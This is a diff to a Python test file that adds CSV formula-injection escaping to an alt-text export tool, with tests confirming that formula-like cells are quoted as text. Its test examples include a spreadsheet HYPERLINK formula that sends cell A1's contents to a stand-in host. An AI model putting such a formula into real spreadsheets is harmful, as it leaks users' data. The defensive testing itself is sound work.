@@ -48,6 +48,13 @@ def as_written(text: str) -> str:
     return "".join(f"\\x{ord(ch) - 0xDC00:02x}" if 0xDC80 <= ord(ch) <= 0xDCFF else ch for ch in text)
 
 
+def as_in_csv(text: str) -> str:
+    """The reference for a CSV cell: `as_written`, after a `'` where a spreadsheet would see a formula (a cell
+    starting with = + - @, a tab or a carriage return) or where the cell starts with `'` itself."""
+    cell = as_written(text)
+    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "'") else cell
+
+
 def rows_for(name: str) -> list[Row]:
     return [Row(f"/p/{name}", error=f"{name} is damaged.", sha256="ab" * 32),
             Row(f"/p/{name}.png", alt_text=f"A {name}, quoted.", sha256="cd" * 32), Row("/q/plain.png", "A cat.")]
@@ -64,13 +71,15 @@ def write(path: Path, fmt: str, rows: list[Row]) -> None:
 @given(name=names)
 @example(name="\r\rcr.jpg")  # the probe's name
 @example(name="a\rb,\"c\"\n\udcff")
+@example(name='=HYPERLINK("http://x.example/?"&A1,"open")')
+@example(name="'=1+1")
 def test_any_name_reads_back_from_csv_exactly_and_resumes(name: str, tmp_path: Path) -> None:
     rows = rows_for(name)
     path = tmp_path / "alt.csv"
     write(path, "csv", rows)
     with open(path, encoding="utf-8", newline="") as handle:  # the csv module on its own, as a spreadsheet would
         records = list(csv.reader(handle))
-    assert records == [list(FIELDS)] + [[as_written(getattr(row, field)) for field in FIELDS] for row in rows]
+    assert records == [list(FIELDS)] + [[as_in_csv(getattr(row, field)) for field in FIELDS] for row in rows]
     done = read_rows(path, "csv")  # what --resume reads
     assert done == [Row(*(as_written(getattr(row, field)) for field in FIELDS)) for row in rows]
     paths = [row.path for row in rows]
@@ -116,6 +125,24 @@ def test_a_carriage_return_in_a_name_is_described_then_resumed(tmp_path: Path, m
     assert describe_here(folder, "--out", out, "--resume") == 0
     assert SUMMARY.match(capsys.readouterr().err.splitlines()[-1]).groups() == ("0", "2", "0")  # type: ignore[union-attr]
     assert out.read_bytes() == written
+
+
+def test_an_answer_that_reads_as_a_formula_is_text_to_a_spreadsheet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                                     capsys: pytest.CaptureFixture[str]) -> None:
+    folder = tmp_path / "f"
+    folder.mkdir()
+    make_image(folder / "red.png", (200, 30, 30))
+    out = tmp_path / "f.csv"
+    use_scripted_engine(monkeypatch, '=HYPERLINK("http://x.example/","open")')
+    assert describe_here(folder, "--out", out) == 0
+    with open(out, encoding="utf-8", newline="") as handle:
+        _, red = csv.reader(handle)
+    assert red[1].startswith("'=HYPERLINK(")  # a spreadsheet shows it as text, without the '
+    assert read_rows(out, "csv")[0].alt_text == red[1][1:]  # what --resume and the user's text see
+    capsys.readouterr()
+    use_scripted_engine(monkeypatch)
+    assert describe_here(folder, "--out", out, "--resume") == 0
+    assert SUMMARY.match(capsys.readouterr().err.splitlines()[-1]).groups() == ("0", "1", "0")  # type: ignore[union-attr]
 
 
 # --- 2. Markdown on stdout: a file gets what --out writes; a pipe's table is recognised by --resume ------------
